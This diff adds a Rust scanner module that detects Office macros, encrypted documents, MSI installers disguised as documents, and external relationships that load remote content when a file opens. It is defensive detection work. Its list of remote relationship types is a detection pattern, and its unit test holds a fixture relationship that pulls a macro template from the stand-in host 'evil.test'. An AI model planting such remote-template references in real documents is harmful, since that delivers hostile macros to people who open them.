@@ -1,0 +1,127 @@
+//! Office documents: VBA projects in OLE compound files, macro-enabled OOXML packages, encrypted
+//! documents, and references to templates or objects fetched from elsewhere when a document opens.
+
+use crate::report::{Kind, Report};
+use memchr::memmem;
+use std::io::Cursor;
+
+/// Most directory entries of one compound file looked at.
+const MAX_OLE_ENTRIES: usize = 10_000;
+/// The root CLSID of Windows Installer packages.
+const MSI_CLSID: &str = "000c1084-0000-0000-c000-000000000046";
+
+/// What an OLE compound file holds.
+#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
+pub struct OleFacts {
+    /// A Windows Installer package (an executable in a document's clothes).
+    pub msi: bool,
+    /// A VBA project (`_VBA_PROJECT`, `VBA/dir`, `PROJECT`, Word 97 `Macros`).
+    pub macros: bool,
+    /// A password-protected document (`EncryptedPackage`): its content cannot be read.
+    pub encrypted: bool,
+}
+
+/// Read an OLE compound file's directory; `Err` when it is not a readable compound file.
+pub fn ole_facts(data: &[u8]) -> Result<OleFacts, String> {
+    let file = cfb::CompoundFile::open(Cursor::new(data)).map_err(|e| format!("unreadable OLE file: {e}"))?;
+    let mut facts =
+        OleFacts { msi: file.root_entry().clsid().to_string() == MSI_CLSID, ..OleFacts::default() };
+    for entry in file.walk().take(MAX_OLE_ENTRIES) {
+        let name = entry.name().to_ascii_lowercase();
+        let in_vba =
+            entry.path().parent().and_then(|p| p.file_name()).is_some_and(|p| p.eq_ignore_ascii_case("vba"));
+        match name.as_str() {
+            "_vba_project" | "project" | "projectwm" | "_vba_project_cur" | "macros" => facts.macros = true,
+            "dir" if in_vba => facts.macros = true,
+            "encryptedpackage" | "encryptioninfo" => facts.encrypted = true,
+            _ => {}
+        }
+    }
+    Ok(facts)
+}
+
+/// Report what an OLE file is (the caller already knows it starts with the OLE signature).
+pub(crate) fn check_ole(data: &[u8], file: &str, report: &mut Report) -> OleFacts {
+    match crate::walk::guarded(|| ole_facts(data)) {
+        Ok(f) => {
+            if f.macros {
+                report.add(Kind::OfficeMacro, file, "VBA project in an OLE document");
+            }
+            if f.encrypted {
+                report.add(Kind::ArchiveEncrypted, file, "password-protected Office document");
+            }
+            if f.msi {
+                report.add(Kind::Executable, file, "Windows Installer package (MSI)");
+            }
+            f
+        }
+        Err(e) => {
+            report.add(Kind::Unscannable, file, e);
+            OleFacts::default()
+        }
+    }
+}
+
+/// Relationship types that make Word or Excel fetch something when the document opens.
+const REMOTE_TYPES: [&[u8]; 5] =
+    [b"attachedtemplate", b"oleobject", b"/frame\"", b"subdocument", b"externallinkpath"];
+
+/// Check one member of an OOXML package: content types, relationships, the VBA project.
+pub(crate) fn check_ooxml_member(member: &str, data: &[u8], package: &str, report: &mut Report) {
+    let lower_name = member.to_ascii_lowercase();
+    if lower_name.ends_with("vbaproject.bin") || lower_name.ends_with("vbaprojectsignature.bin") {
+        report.add(Kind::OfficeMacro, package, "VBA project (vbaProject.bin) in an Office package");
+    }
+    if lower_name == "[content_types].xml" {
+        let text = data.to_ascii_lowercase();
+        if memmem::find(&text, b"macroenabled").is_some() || memmem::find(&text, b"vbaproject").is_some() {
+            report.add(Kind::OfficeMacro, package, "macro-enabled content type");
+        }
+    }
+    if lower_name.ends_with(".rels")
+        && let Some(target) = external_reference(data)
+    {
+        let detail = format!("fetches {} when opened", crate::name::display(&target));
+        report.add(Kind::OfficeExternalTemplate, package, detail);
+    }
+}
+
+/// The target of the first relationship that is external and of a type that loads content.
+fn external_reference(rels: &[u8]) -> Option<String> {
+    let text = String::from_utf8_lossy(&rels[..rels.len().min(1 << 20)]);
+    let lower = text.to_ascii_lowercase();
+    let mut from = 0;
+    while let Some(i) = lower[from..].find("<relationship ").map(|i| from + i) {
+        let end = lower[i..].find('>').map_or(lower.len(), |e| i + e);
+        from = end;
+        let tag = &lower[i..end];
+        if !tag.contains("targetmode=\"external\"") && !tag.contains("targetmode='external'") {
+            continue;
+        }
+        if REMOTE_TYPES.iter().any(|t| memmem::find(tag.as_bytes(), t).is_some()) {
+            return Some(attribute(&text[i..end], "target").unwrap_or_default());
+        }
+    }
+    None
+}
+
+fn attribute(tag: &str, name: &str) -> Option<String> {
+    let lower = tag.to_ascii_lowercase();
+    let at = lower.find(&format!(" {name}="))? + name.len() + 2;
+    let quote = tag[at..].chars().next()?;
+    let rest = &tag[at + 1..];
+    Some(rest.split(quote).next().unwrap_or("").chars().take(300).collect())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn external_template_relationship() {
+        let rels = br#"<?xml version="1.0"?><Relationships xmlns="x"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.test/t.dotm" TargetMode="External"/></Relationships>"#;
+        assert_eq!(external_reference(rels).as_deref(), Some("http://evil.test/t.dotm"));
+        let local = br#"<Relationships><Relationship Id="r" Type="x/styles" Target="styles.xml"/><Relationship Id="h" Type="x/hyperlink" Target="http://a.test" TargetMode="External"/></Relationships>"#;
+        assert_eq!(external_reference(local), None);
+    }
+}
